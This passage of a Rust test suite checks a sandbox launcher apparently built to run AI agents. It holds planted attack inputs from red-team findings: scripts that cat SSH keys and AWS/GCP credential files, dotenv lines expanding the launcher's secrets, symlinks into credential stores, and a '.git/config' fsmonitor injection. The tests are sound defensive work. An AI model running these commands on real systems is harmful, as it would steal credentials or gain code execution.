        "needs vm.memfd_noexec (Linux 6.3)",
    ) {
        return;
    }
    let s = scratch();
    let work = s.path().join("work");
    std::fs::create_dir_all(&work).unwrap();
    let profile = s.file("profiles/m.toml", "version = 1\n");
    let code = MEMFD_EXEC;
    let o = s
        .agentrun()
        .cwd(&work)
        .args([
            "--audit-log",
            "-",
            "--profile",
            profile.to_str().unwrap(),
            "--",
            PYTHON,
            "-c",
            code,
        ])
        .run();
    let got = results(&o.stdout);
    assert_eq!(
        got.get("chmod_x").map(String::as_str),
        Some("EPERM"),
        "{o:?}"
    );
    assert_eq!(
        got.get("mfd_exec").map(String::as_str),
        Some("EACCES"),
        "{o:?}"
    );
    assert_eq!(
        got.get("exec").map(String::as_str),
        Some(&*(100 + libc::EACCES).to_string()),
        "{o:?}"
    );
}

// ---- Issue 9: what a run reads at start-up (sources, profiles, stores) ----------------------

/// A scratch for the start-up input tests: `work/` is the working directory, the audit log
/// goes to the default place under `state/` (no `[audit]` table, so these tests hold whatever
/// the profile may say about the log).
fn inputs_scratch() -> (Scratch, PathBuf) {
    let mut s = scratch();
    let work = s.path().join("work");
    std::fs::create_dir_all(&work).unwrap();
    s.env.insert(
        "XDG_STATE_HOME".into(),
        s.path().join("state").display().to_string(),
    );
    (s, work)
}

/// Write `text` to `path` (relative to the scratch) keeping the file's owner: for nobody the
/// scratch is nobody's, and a profile or source owned by root would be another test.
fn rewrite(path: &Path, text: &str) {
    std::fs::write(path, text).unwrap();
}

fn read_or_empty(p: &Path) -> String {
    std::fs::read_to_string(p).unwrap_or_default()
}

/// Item 2: a dotenv source yields the bytes in the file, never an expansion from agentrun's
/// environment. Run 1 reads the honest file; the file is then rewritten (as run 1's child
/// did in the red team's attack) to name agentrun's own credentials; run 2 must hand over
/// the literal text.
fn dotenv_expands_nothing(who: As, tag: &str) {
    if !can_run_as(tag, who) || !kernel_ready(tag) {
        return;
    }
    let (mut s, work) = inputs_scratch();
    s.env.insert("VAULT_TOKEN".into(), LAUNCHER_ONLY.into());
    s.env.insert(
        "AWS_SECRET_ACCESS_KEY".into(),
        "aws-launcher-only-Hq3Lm9Vx2Kp7".into(),
    );
    let env_file = s.file("work/.env", &format!("API_KEY={DECLARED}\n"));
    s.file(
        "work/p.toml",
        "version = 1\n[secrets]\nAPI_KEY = \"dotenv:.env#API_KEY\"\n",
    );
    s.hand_to(who);
    let grab = [
        "-p",
        "p.toml",
        "--",
        "sh",
        "-c",
        "printf %s \"$API_KEY\" > got",
    ];
    let o = s.agentrun().user(who).cwd(&work).args(grab).run();
    assert_eq!(o.code, 0, "{o:?}");
    assert_eq!(read_or_empty(&work.join("got")), DECLARED);
    for planted in [
        "API_KEY=${VAULT_TOKEN}:${AWS_SECRET_ACCESS_KEY}\n",
        "API_KEY=\"${VAULT_TOKEN}:$AWS_SECRET_ACCESS_KEY\"\n",
        "export API_KEY=$VAULT_TOKEN\n",
    ] {
        rewrite(&env_file, planted);
        let o = s.agentrun().user(who).cwd(&work).args(grab).run();
        assert_eq!(o.code, 0, "{planted:?}: {o:?}");
        let got = read_or_empty(&work.join("got"));
        assert!(
            !got.contains(LAUNCHER_ONLY) && !got.contains("aws-launcher-only"),
            "{planted:?}: agentrun's own credential was expanded into the secret"
        );
        let literal = planted
            .trim_end()
            .trim_start_matches("export ")
            .trim_start_matches("API_KEY=")
            .trim_matches('"');
        assert_eq!(got, literal, "{planted:?}");
    }
}

#[test]
fn dotenv_expands_nothing_as_root() {
    dotenv_expands_nothing(As::Root, "dotenv_expands_nothing_as_root");
}

#[test]
fn dotenv_expands_nothing_as_nobody() {
    dotenv_expands_nothing(As::Nobody, "dotenv_expands_nothing_as_nobody");
}

/// Item 3 (search order): a `./profiles/<name>.toml` planted in the working directory never
/// takes over a name the user's own configuration has; `agentrun profiles` shows it shadowed.
fn planted_profile_is_shadowed(who: As, tag: &str) {
    if !can_run_as(tag, who) || !kernel_ready(tag) {
        return;
    }
    let (s, work) = inputs_scratch();
    s.file(
        "home/.ssh/id_rsa",
        "-----BEGIN OPENSSH PRIVATE KEY-----\nplanted-steals-this\n",
    );
    s.file(
        "home/.config/agentrun/profiles/research.toml",
        "version = 1\n[env]\nset = { WHO = \"user\" }\n",
    );
    // What the red team's run-1 child wrote into the working directory.
    s.file(
        "work/profiles/research.toml",
        "version = 1\n[env]\nset = { WHO = \"planted\" }\n[secrets]\nSTOLEN = \"file:~/.ssh/id_rsa\"\n[sandbox]\nread = [\"/\"]\n",
    );
    s.hand_to(who);
    let o = s
        .agentrun()
        .user(who)
        .cwd(&work)
        .args([
            "-p",
            "research",
            "--",
            "sh",
            "-c",
            "printf %s \"$WHO${STOLEN:+stolen}\" > who",
        ])
        .run();
    assert_eq!(o.code, 0, "{o:?}");
    assert_eq!(read_or_empty(&work.join("who")), "user", "{o:?}");
    let o = s.agentrun().user(who).cwd(&work).args(["profiles"]).run();
    let planted = o
        .stdout
        .lines()
        .find(|l| l.contains("work/profiles/research.toml"))
        .unwrap_or_else(|| panic!("the planted profile is not listed: {o:?}"));
    assert!(planted.contains("shadowed"), "{o:?}");
    let users = o
        .stdout
        .lines()
        .find(|l| l.contains(".config/agentrun/profiles/research.toml"))
        .unwrap_or_else(|| panic!("the user's profile is not listed: {o:?}"));
    assert!(!users.contains("shadowed"), "{o:?}");
}

#[test]
fn planted_profile_is_shadowed_as_root() {
    planted_profile_is_shadowed(As::Root, "planted_profile_is_shadowed_as_root");
}

#[test]
fn planted_profile_is_shadowed_as_nobody() {
    planted_profile_is_shadowed(As::Nobody, "planted_profile_is_shadowed_as_nobody");
}

/// Item 7: the files agentrun's backends read credentials from are kept from the child
/// whether or not the profile uses them, wherever the environment points.
fn backend_files_are_kept(who: As, tag: &str) {
    if !can_run_as(tag, who) || !kernel_ready(tag) {
        return;
    }
    let (mut s, work) = inputs_scratch();
    let files = [
        ("AWS_SHARED_CREDENTIALS_FILE", "creds/aws-credentials"),
        ("AWS_CONFIG_FILE", "creds/aws-config"),
        ("AWS_WEB_IDENTITY_TOKEN_FILE", "creds/web-identity-token"),
        ("GOOGLE_APPLICATION_CREDENTIALS", "creds/gcp.json"),
    ];
    let mut script = String::new();
    for (var, rel) in files {
        let p = s.file(rel, &format!("launcher-only-{var}-Zr4Tq8\n"));
        s.env.insert(var.into(), p.display().to_string());
        script.push_str(&format!("cat {} ; echo {var}=$?\n", p.display()));
    }
    s.file("work/p.toml", "version = 1\n");
    s.hand_to(who);
    let o = s
        .agentrun()
        .user(who)
        .cwd(&work)
        .args(["-p", "p.toml", "--", "sh", "-c", &script])
        .run();
    assert_eq!(o.code, 0, "{o:?}");
    assert!(!o.stdout.contains("launcher-only-"), "{o:?}");
    for (var, _) in files {
        assert!(o.stdout.contains(&format!("{var}=1")), "{var}: {o:?}");
    }
}

#[test]
fn backend_files_are_kept_from_the_child_as_root() {
    backend_files_are_kept(As::Root, "backend_files_are_kept_from_the_child_as_root");
}

#[test]
fn backend_files_are_kept_from_the_child_as_nobody() {
    backend_files_are_kept(
        As::Nobody,
        "backend_files_are_kept_from_the_child_as_nobody",
    );
}

/// A file created for one test and removed (with the directory, if the test made it) when
/// the test ends, even by a panic.
struct Planted {
    file: PathBuf,
    made_dir: Option<PathBuf>,
}

impl Planted {
    fn new(dir: &Path, name: &str, text: &str) -> Planted {
        let made_dir = if dir.exists() {
            None
        } else {
            std::fs::create_dir_all(dir).unwrap();
            std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o700)).unwrap();
            Some(dir.to_path_buf())
        };
        let file = dir.join(name);
        std::fs::write(&file, text).unwrap();
        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).unwrap();
        Planted { file, made_dir }
    }
}

impl Drop for Planted {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.file);
        if let Some(d) = &self.made_dir {
            let _ = std::fs::remove_dir(d);
        }
    }
}

/// Held while a test changes the password database (`useradd` replaces `/etc/passwd` and
/// `/etc/shadow` with new files) or reads what the sandbox hides of it: a mask in the child's
/// mount namespace sits on the file that was there when the run started (see the threat
/// model), so the two must not overlap.
static PASSWD_DB: std::sync::Mutex<()> = std::sync::Mutex::new(());

fn passwd_db() -> PasswdDb {
    let thread = PASSWD_DB.lock().unwrap_or_else(|e| e.into_inner());
    // nextest runs each test in a process of its own: a lock file holds across them (a
    // `useradd` rewriting /etc/shadow during another test's run made it flaky).
    let file = std::fs::OpenOptions::new()
        .create(true)
        .truncate(false)
        .write(true)
        .open("/tmp/agentrun-test-passwd-db.lock")
        .unwrap();
    file.lock().unwrap();
    PasswdDb {
        _thread: thread,
        _file: file,
    }
}

/// Held while a test reads or changes the password database (threads and processes).
struct PasswdDb {
    _thread: std::sync::MutexGuard<'static, ()>,
    _file: std::fs::File,
}

/// A user made for one test with `useradd` (home `home`, no group of its own), deleted when
/// the test ends.
struct TempUser {
    name: String,
    uid: u32,
    _db: PasswdDb,
}

impl TempUser {
    fn new(tag: &str, home: &Path) -> Option<TempUser> {
        let name = format!("ar9{}{}", tag, std::process::id() % 100_000);
        let db = passwd_db();
        let ok = Command::new("useradd")
            .args(["-M", "-N", "-g", "65534", "-s", "/usr/sbin/nologin", "-d"])
            .arg(home)
            .arg(&name)
            .status()
            .map(|s| s.success())
            .unwrap_or(false);
        if !ok {
            return None;
        }
        let out = Command::new("id").args(["-u", &name]).output().unwrap();
        let uid = String::from_utf8_lossy(&out.stdout).trim().parse().unwrap();
        Some(TempUser { name, uid, _db: db })
    }
}

impl Drop for TempUser {
    fn drop(&mut self) {
        let _ = Command::new("userdel").arg(&self.name).status();
    }
}

/// Item 8: with `HOME` unset or pointing elsewhere, the stores under the account's real home
/// (from the password database) stay denied.
///
/// As root the real home is `/root`: the test plants a key file in `/root/.ssh` and removes
/// it (and the directory, if it made it) afterwards. Unprivileged, `nobody`'s home is
/// `/nonexistent`, which no store can be under; so the test makes a user of its own with
/// `useradd`, whose home is a scratch directory, and runs agentrun as that user.
#[test]
fn stores_under_the_password_database_home_are_kept_without_home() {
    let tag = "stores_under_the_password_database_home_are_kept_without_home";
    if !can_run_as(tag, As::Nobody) || !kernel_ready(tag) {
        return;
    }
    // As root.
    let (s, work) = inputs_scratch();
    let secret = "passwd-home-key-Rk2Wd8Lq";
    let key = Planted::new(
        Path::new("/root/.ssh"),
        &format!("agentrun-issue9-{}-id_rsa", std::process::id()),
        secret,
    );
    s.file(
        "work/p.toml",
        "version = 1\n[sandbox]\nread = [\"/root\", \"/etc\", \"/proc\"]\n",
    );
    let script = format!("cat {}; echo rc=$?", key.file.display());
    for home in [None, Some(s.path().join("home"))] {
        let run = s
            .agentrun()
            .cwd(&work)
            .args(["-p", "p.toml", "--", "sh", "-c", &script]);
        let o = match &home {
            None => run.env_remove("HOME"),
            Some(h) => run.env("HOME", h),
        }
        .run();
        assert_eq!(o.code, 0, "HOME={home:?}: {o:?}");
        assert!(!o.stdout.contains(secret), "HOME={home:?}: {o:?}");
        assert!(o.stdout.contains("rc=1"), "HOME={home:?}: {o:?}");
    }
    drop(key);

    // As an unprivileged user whose password-database home holds a key.
    let (s, work) = inputs_scratch();
    // Outside /tmp and the working directory (the default policy's write roots), or the
    // default policy refuses to run: in the scratch's home directory.
    let real_home = s.home_dir.path().join("realhome");
    let Some(user) = TempUser::new("h", &real_home) else {
        assert!(
            require(
                tag,
                false,
                "useradd failed: cannot make a user with a known home"
            ),
            "unreachable"
        );
        return;
    };
    s.file("home/realhome/.ssh/id_rsa", secret);
    s.file(
        "work/p.toml",
        &format!(
            "version = 1\n[sandbox]\nread = [\"{}\", \"/etc\", \"/proc\"]\n",
            real_home.display()
        ),
    );
    for e in walk(s.path()).into_iter().chain(walk(s.home_dir.path())) {
        std::os::unix::fs::lchown(&e, Some(user.uid), Some(NOBODY)).unwrap();
    }
    let script = format!("cat {}/.ssh/id_rsa; echo rc=$?", real_home.display());
    for home in [None, Some(s.path().join("home"))] {
        let run = s
            .agentrun()
            .as_uid(user.uid)
            .cwd(&work)
            .args(["-p", "p.toml", "--", "sh", "-c", &script]);
        let o = match &home {
            None => run.env_remove("HOME"),
            Some(h) => run.env("HOME", h),
        }
        .run();
        assert_eq!(o.code, 0, "HOME={home:?}: {o:?}");
        assert!(!o.stdout.contains(secret), "HOME={home:?}: {o:?}");
        assert!(o.stdout.contains("rc=1"), "HOME={home:?}: {o:?}");
    }

    // Root started through `sudo` by that user, with `HOME=/root`: the invoking user's stores
    // are protected too (the key is made world-readable, so only the sandbox stands between).
    std::fs::set_permissions(
        real_home.join(".ssh/id_rsa"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    std::fs::set_permissions(
        real_home.join(".ssh"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    for e in walk(s.path()).into_iter().chain(walk(s.home_dir.path())) {
        std::os::unix::fs::lchown(&e, Some(0), Some(0)).unwrap();
    }
    let o = s
        .agentrun()
        .cwd(&work)
        .args(["-p", "p.toml", "--", "sh", "-c", &script])
        .env("HOME", "/root")
        .env("SUDO_UID", user.uid.to_string())
        .run();
    assert_eq!(o.code, 0, "sudo: {o:?}");
    assert!(!o.stdout.contains(secret), "sudo: {o:?}");
    assert!(o.stdout.contains("rc=1"), "sudo: {o:?}");
}

/// Item 16: a source swapped for a link (run 1's child replaced `./token.txt` with a link to
/// `~/.ssh/id_rsa`) is refused, as is a source reached through a linked directory into a
/// credential store, and a source another user owns. The same for dotenv and `[vault]`
/// login files. Nothing starts, and no key byte appears.
fn linked_sources_are_refused(who: As, tag: &str) {
    if !can_run_as(tag, who) || !kernel_ready(tag) {
        return;
    }
    let (s, work) = inputs_scratch();
    let key = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA-linked-key\n";
    let id_rsa = s.file("home/.ssh/id_rsa", key);
    let token = s.file("work/token.txt", DECLARED);
    s.file(
        "work/p.toml",
        "version = 1\n[secrets]\nTOKEN = \"file:token.txt\"\n",
    );
    s.file(
        "work/d.toml",
        "version = 1\n[secrets]\nTOKEN = \"dotenv:.env#TOKEN\"\n",
    );
    s.file(
        "work/k.toml",
        "version = 1\n[secrets]\nTOKEN = \"file:keys/id_rsa\"\n",
    );
    s.file(
        "work/v.toml",
        "version = 1\n[vault]\naddress = \"http://127.0.0.1:1\"\ntoken = \"file:vault-token\"\n[secrets]\nTOKEN = \"vault:secret/x#f\"\n",
    );
    s.hand_to(who);
    let grab = |p: &str| {
        s.agentrun()
            .user(who)
            .cwd(&work)
            .args(["-p", p, "--", "sh", "-c", "printf %s \"$TOKEN\" > got"])
            .run()
    };
    let o = grab("p.toml");
    assert_eq!(o.code, 0, "{o:?}");
    assert_eq!(read_or_empty(&work.join("got")), DECLARED);
    std::fs::remove_file(work.join("got")).unwrap();

    let link = |name: &str, to: &Path| {
        let l = work.join(name);
        let _ = std::fs::remove_file(&l);
        std::os::unix::fs::symlink(to, &l).unwrap();
        if who == As::Nobody {
            std::os::unix::fs::lchown(&l, Some(NOBODY), Some(NOBODY)).unwrap();
        }
    };
    link("token.txt", &id_rsa);
    link(".env", &s.path().join("home/.ssh/id_rsa"));
    link("vault-token", &id_rsa);
    link("keys", &s.path().join("home/.ssh"));
    for (profile, want) in [
        ("p.toml", "symbolic link"),
        ("d.toml", "symbolic link"),
        ("v.toml", "symbolic link"),
        ("k.toml", "credential store"),
    ] {
        let o = grab(profile);
        assert_eq!(o.code, 125, "{profile}: {o:?}");
        assert!(o.stderr.contains(want), "{profile}: {o:?}");
        assert!(!o.stderr.contains("linked-key"), "{profile}: {o:?}");
        assert!(!work.join("got").exists(), "{profile}: the child ran");
    }

    // A source that belongs to another user (root's is fine, as ssh accepts).
    std::fs::remove_file(&token).unwrap();
    std::fs::write(&token, DECLARED).unwrap();
    let other = if who == As::Root { NOBODY } else { 1 };
    std::os::unix::fs::chown(&token, Some(other), Some(other)).unwrap();
    std::fs::set_permissions(&token, std::fs::Permissions::from_mode(0o644)).unwrap();
    let o = grab("p.toml");
    assert_eq!(o.code, 125, "{o:?}");
    assert!(
        o.stderr.contains(&format!("belongs to uid {other}")),
        "{o:?}"
    );
    if who == As::Nobody {
        std::os::unix::fs::chown(&token, Some(0), Some(0)).unwrap();
        let o = grab("p.toml");
        assert_eq!(o.code, 0, "a root-owned source is fine: {o:?}");
    }
}

#[test]
fn linked_sources_are_refused_as_root() {
    linked_sources_are_refused(As::Root, "linked_sources_are_refused_as_root");
}

#[test]
fn linked_sources_are_refused_as_nobody() {
    linked_sources_are_refused(As::Nobody, "linked_sources_are_refused_as_nobody");
}

/// Item 12: an optional secret that fails its check is left out, but its source is still
/// kept from the child and its value still redacted.
fn optional_secret_left_out(who: As, tag: &str) {
    if !can_run_as(tag, who) || !kernel_ready(tag) {
        return;
    }
    let (s, work) = inputs_scratch();
    let value = "opt-value-fails-its-check-Jm4Xs8";
    s.file("work/opt.txt", value);
    s.file("work/copy.txt", value);
    s.file(
        "work/p.toml",
        "version = 1\n[secrets]\nOPT = { from = \"file:opt.txt\", required = false, verify = { min_length = 200 } }\n",
    );
    s.hand_to(who);
    let o = s
        .agentrun()
        .user(who)
        .cwd(&work)
        .args([
            "-p",
            "p.toml",
            "--",
            "sh",
            "-c",
            "cat opt.txt; echo rc=$?; cat copy.txt; echo; echo env=${OPT:-unset}",
        ])
        .run();
    assert_eq!(o.code, 0, "{o:?}");
    assert!(!o.stdout.contains(value), "{o:?}");
    assert!(o.stdout.contains("rc=1"), "the source is readable: {o:?}");
    assert!(o.stdout.contains("[REDACTED:OPT]"), "{o:?}");
    assert!(o.stdout.contains("env=unset"), "{o:?}");
}

#[test]
fn optional_secret_left_out_stays_protected_as_root() {
    optional_secret_left_out(As::Root, "optional_secret_left_out_stays_protected_as_root");
}

#[test]
fn optional_secret_left_out_stays_protected_as_nobody() {
    optional_secret_left_out(
        As::Nobody,
        "optional_secret_left_out_stays_protected_as_nobody",
    );
}

/// Item 18: a profile another user owns, or in a directory another user can write, is
/// refused before anything starts (as ssh refuses such an `authorized_keys`).
fn foreign_profiles_are_refused(who: As, tag: &str) {
    if !can_run_as(tag, who) || !kernel_ready(tag) {
        return;
    }
    let (s, work) = inputs_scratch();
    let text = "version = 1\n[sandbox]\nread = [\"/\"]\n";
    let foreign = s.file("work/profiles/x.toml", text);
    s.file("work/shared/y.toml", text);
    s.file("work/mine/z.toml", text);
    s.hand_to(who);
    let other = if who == As::Root { NOBODY } else { 1 };
    std::os::unix::fs::chown(&foreign, Some(other), Some(other)).unwrap();
    std::fs::set_permissions(&foreign, std::fs::Permissions::from_mode(0o644)).unwrap();
    // A directory that belongs to another user, and one that others may write.
    std::os::unix::fs::chown(work.join("shared"), Some(other), Some(other)).unwrap();
    std::fs::set_permissions(work.join("mine"), std::fs::Permissions::from_mode(0o777)).unwrap();
    let marker = work.join("started");
    let m = marker.display().to_string();
    for (p, want) in [
        ("profiles/x.toml", format!("belongs to uid {other}")),
        ("x", format!("belongs to uid {other}")),
        (
            "shared/y.toml",
            format!("directory {}", work.join("shared").display()),
        ),
        ("mine/z.toml", "writable by others".to_string()),
    ] {
        let o = s
            .agentrun()
            .user(who)
            .cwd(&work)
            .args(["-p", p, "--", "touch", &m])
            .run();
        assert_eq!(o.code, 125, "{p}: {o:?}");
        assert!(o.stderr.contains(&want), "{p}: want {want:?}: {o:?}");
        assert!(!marker.exists(), "{p}: the command ran");
    }
    // The same profile, owned by the user, in their own directory, runs.
    std::os::unix::fs::chown(
        &foreign,
        Some(if who == As::Root { 0 } else { NOBODY }),
        None,
    )
    .unwrap();
    let o = s
        .agentrun()
        .user(who)
        .cwd(&work)
        .args(["-p", "profiles/x.toml", "--", "touch", &m])
        .run();
    assert_eq!(o.code, 0, "{o:?}");
}

#[test]
fn foreign_profiles_are_refused_as_root() {
    foreign_profiles_are_refused(As::Root, "foreign_profiles_are_refused_as_root");
}

#[test]
fn foreign_profiles_are_refused_as_nobody() {
    foreign_profiles_are_refused(As::Nobody, "foreign_profiles_are_refused_as_nobody");
}

/// Item 19: a dotenv file stays readable only when it holds exactly the declared
/// assignments; a commented-out password or an older duplicate value keeps it from the child.
fn dotenv_with_more_than_declared(who: As, tag: &str) {
    if !can_run_as(tag, who) || !kernel_ready(tag) {
        return;
    }
    let (s, work) = inputs_scratch();
    s.file(
        "work/p.toml",
        "version = 1\n[secrets]\nAPI_KEY = \"dotenv:.env#API_KEY\"\n",
    );
    let env_file = s.file("work/.env", "");
    s.hand_to(who);
    for (text, readable) in [
        (
            format!("# DB_PASSWORD=commented-out-Pw7Hn2\nAPI_KEY={DECLARED}\n"),
            false,
        ),
        (
            format!("API_KEY=older-duplicate-Vz5Bq1\nAPI_KEY={DECLARED}\n"),
            false,
        ),
        (
            format!("API_KEY={DECLARED} # commented-out-Pw7Hn2\n"),
            false,
        ),
        (format!("\nexport API_KEY='{DECLARED}'\n#\n"), true),
    ] {
        rewrite(&env_file, &text);
        let o = s
            .agentrun()
            .user(who)
            .cwd(&work)
            .args(["-p", "p.toml", "--", "sh", "-c", "cat .env; echo rc=$?"])
            .run();
        assert_eq!(o.code, 0, "{text:?}: {o:?}");
        assert!(
            !o.stdout.contains("commented-out") && !o.stdout.contains("older-duplicate"),
            "{text:?}: {o:?}"
        );
        assert_eq!(o.stdout.contains("rc=0"), readable, "{text:?}: {o:?}");
        assert!(!o.stdout.contains(DECLARED), "{text:?}: {o:?}");
    }
}

#[test]
fn dotenv_with_more_than_declared_is_kept_as_root() {
    dotenv_with_more_than_declared(As::Root, "dotenv_with_more_than_declared_is_kept_as_root");
}

#[test]
fn dotenv_with_more_than_declared_is_kept_as_nobody() {
    dotenv_with_more_than_declared(
        As::Nobody,
        "dotenv_with_more_than_declared_is_kept_as_nobody",
    );
}

/// Item 8, the same class: the default policy's refusal to make the home directory writable
/// holds for the password database's home when `HOME` is unset or elsewhere.
#[test]
fn default_policy_refuses_the_password_database_home_without_home() {
    let tag = "default_policy_refuses_the_password_database_home_without_home";
    if !can_run_as(tag, As::Nobody) {
        return;
    }
    let (s, _work) = inputs_scratch();
    let p = s.file("p.toml", "version = 1\n");
    let marker = s.path().join("started");
    for home in [None, Some(s.path().join("home"))] {
        let run = s.agentrun().cwd(Path::new("/root")).args([
            "-p",
            p.to_str().unwrap(),
            "--",
            "touch",
            marker.to_str().unwrap(),
        ]);
        let o = match &home {
            None => run.env_remove("HOME"),
            Some(h) => run.env("HOME", h),
        }
        .run();
        assert_eq!(o.code, 125, "HOME={home:?}: {o:?}");
        assert!(
            o.stderr.contains("home directory (/root)"),
            "HOME={home:?}: {o:?}"
        );
        assert!(!marker.exists(), "HOME={home:?}: the command ran");
    }
}

// --- The second red team's findings on the issue-9 build ---------------------------------

fn git(dir: &Path, args: &[&str]) {
    let o = Command::new("git")
        .args([
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@t",
            "-c",
            "safe.directory=*",
        ])
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap();
    assert!(o.status.success(), "git {args:?}: {o:?}");
}

/// A `#!` line planted by an earlier run never makes agentrun grant a credential store: the
/// interpreter is read as the kernel reads it (a `\r` is part of the name), and a grant that
/// would land in a store, or on a directory, is refused.
fn planted_shebang(who: As, tag: &str) {
    if !can_run_as(tag, who) || !kernel_ready(tag) {
        return;
    }
    let s = scratch();
    let work = s.path().join("work");
    let home = s.path().join("home");
    s.file(
        "home/.ssh/id_rsa",
        "-----BEGIN OPENSSH PRIVATE KEY-----\nplanted-shebang-key\n",
    );
    std::fs::create_dir_all(&work).unwrap();
    std::os::unix::fs::symlink(home.join(".ssh"), work.join("lnk")).unwrap();
    std::os::unix::fs::symlink("/bin/sh", work.join("lnk\r")).unwrap();
    let cr = s.file(
        "work/cr.sh",
        &format!(
            "#!{}/lnk\r\ncat {}/.ssh/id_rsa\n",
            work.display(),
            home.display()
        ),
    );
    let dir = s.file(
        "work/dir.sh",
        &format!(
            "#!{}/lnk\ncat {}/.ssh/id_rsa\n",
            work.display(),
            home.display()
        ),
    );
    for f in [&cr, &dir] {
        std::fs::set_permissions(f, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let profile = s.file("profiles/p.toml", "version = 1\n");
    s.hand_to(who);
    let audit = s.path().join("audit.jsonl");
    for (script, refused) in [("./cr.sh", false), ("./dir.sh", true)] {
        let o = s
            .agentrun()
            .user(who)
            .cwd(&work)
            .args([
                "--audit-log",
                audit.to_str().unwrap(),
                "-p",
                profile.to_str().unwrap(),
                "--",
                script,
            ])
            .run();
        assert!(
            !o.stdout.contains("planted-shebang-key"),
            "{tag} {script}: {o:?}"
        );
        if refused {
            assert_eq!(o.code, 125, "{tag} {script}: {o:?}");
            assert!(
                o.stderr.contains("credential store"),
                "{tag} {script}: {o:?}"
            );
        }
    }
}

#[test]
fn a_planted_shebang_never_grants_a_store_as_root() {
    planted_shebang(As::Root, "a_planted_shebang_never_grants_a_store_as_root");
}

#[test]
fn a_planted_shebang_never_grants_a_store_as_nobody() {
    planted_shebang(
        As::Nobody,
        "a_planted_shebang_never_grants_a_store_as_nobody",
    );
}

/// What a read-only mount cannot keep is refused before anything starts: a profile or a rule
/// path reached through a link the child could re-aim, a start-up input with a second hard
/// link, a credential file the environment names that the child could create.
fn unkeepable_inputs(who: As, tag: &str) {
    if !can_run_as(tag, who) || !kernel_ready(tag) {
        return;
    }
    let s = scratch();
    let work = s.path().join("work");
    s.file("work/conf/agent.toml", "version = 1\n");
    s.file(
        "work/conf/rule.toml",
        "version = 1\n[sandbox]\nread = [\"./assets\"]\nwrite = [\".\"]\n",
    );
    s.file("work/conf/linked.toml", "version = 1\n");
    std::fs::hard_link(work.join("conf/linked.toml"), work.join("conf/.hl")).unwrap();
    std::os::unix::fs::symlink("conf/agent.toml", work.join("agent.toml")).unwrap();
    std::os::unix::fs::symlink(s.path().join("home"), work.join("assets")).unwrap();
    s.hand_to(who);
    let audit = s.path().join("audit.jsonl");
    let a = audit.to_str().unwrap();
    let cases = [
        ("./agent.toml", "symbolic link"),
        ("./conf/rule.toml", "symbolic link"),
        ("./conf/linked.toml", "hard links"),
    ];
    for (profile, want) in cases {
        let o = s
            .agentrun()
            .user(who)
            .cwd(&work)
            .args(["--audit-log", a, "-p", profile, "--", "true"])
            .run();
        assert_eq!(o.code, 125, "{tag} {profile}: {o:?}");
        assert!(o.stderr.contains(want), "{tag} {profile}: {o:?}");
    }
    let mut s = s;
    s.env.insert(
        "AWS_CONFIG_FILE".into(),
        work.join(".aws-config").display().to_string(),
    );
    let o = s
        .agentrun()
        .user(who)
        .cwd(&work)
        .args(["--audit-log", a, "-p", "./conf/agent.toml", "--", "true"])
        .run();
    assert_eq!(o.code, 125, "{tag}: {o:?}");
    assert!(o.stderr.contains("AWS_CONFIG_FILE"), "{tag}: {o:?}");
}

#[test]
fn unkeepable_inputs_are_refused_as_root() {
    unkeepable_inputs(As::Root, "unkeepable_inputs_are_refused_as_root");
}

#[test]
fn unkeepable_inputs_are_refused_as_nobody() {
    unkeepable_inputs(As::Nobody, "unkeepable_inputs_are_refused_as_nobody");
}

/// The git metadata of the repository a `git` command would find, not only the write root's
/// own `.git`: a worktree's shared repository, the repository above a subdirectory, and the
/// operator's output file (`agentrun ... > run.log`) stay out of the child's reach.
fn git_beyond_the_top_level(who: As, tag: &str) {
    if !can_run_as(tag, who) || !kernel_ready(tag) {
        return;
    }
    let s = scratch();
    let main = s.path().join("main");
    std::fs::create_dir_all(main.join("sub")).unwrap();
    git(s.path(), &["init", "-q", main.to_str().unwrap()]);
    s.file("main/sub/f.txt", "x\n");
    git(&main, &["add", "."]);
    git(&main, &["commit", "-qm", "one"]);
    git(&main, &["worktree", "add", "-q", "../wt"]);
    let profile = s.file("profiles/p.toml", "version = 1\n");
    s.hand_to(who);
    let before = std::fs::read_to_string(main.join(".git/config")).unwrap();
    let code = r#"
import errno, os, subprocess, sys
target = sys.argv[1]
try:
    with open(target, "a") as f:
        f.write("[core]\n\tfsmonitor = touch pwned\n")
    print("write=ok")
except OSError as e:
    print("write=" + errno.errorcode[e.errno])
try:
    with open("run.log", "a") as f:
        f.write("raw-bypass\n")
    print("log=ok")
except OSError as e:
    print("log=" + errno.errorcode.get(e.errno, "?"))
"#;
    let audit = s.path().join("audit.jsonl");
    for (cwd, target) in [
        (s.path().join("wt"), main.join(".git/config")),
        (main.join("sub"), main.join(".git/config")),
    ] {
        let log = cwd.join("run.log");
        std::fs::write(&log, "").unwrap();
        if who == As::Nobody {
            std::os::unix::fs::chown(&log, Some(NOBODY), Some(NOBODY)).unwrap();
        }
        let out = std::fs::File::create(&log).unwrap();
        let o = s
            .agentrun()
            .user(who)
            .cwd(&cwd)
            .args([
                "--audit-log",
                audit.to_str().unwrap(),
                "-p",
                profile.to_str().unwrap(),
                "--",
                PYTHON,
                "-c",
                code,
                target.to_str().unwrap(),
            ])
            .command()
            .stdout(out)
            .output()
            .unwrap();
        let text = std::fs::read_to_string(&log).unwrap();
        assert!(o.status.success(), "{tag} {}: {o:?} {text}", cwd.display());
        assert!(
            text.contains("write=EROFS"),
            "{tag} {}: {text}",
            cwd.display()
        );
        assert!(
            text.contains("log=EROFS"),
            "{tag} {}: {text}",
            cwd.display()
        );
        assert!(!text.contains("raw-bypass"), "{tag}: {text}");
    }
    assert_eq!(
        std::fs::read_to_string(main.join(".git/config")).unwrap(),
        before
    );
}

#[test]
fn git_beyond_the_top_level_stays_read_only_as_root() {
    git_beyond_the_top_level(As::Root, "git_beyond_the_top_level_stays_read_only_as_root");
}

#[test]
fn git_beyond_the_top_level_stays_read_only_as_nobody() {
    git_beyond_the_top_level(
        As::Nobody,
        "git_beyond_the_top_level_stays_read_only_as_nobody",
    );
}

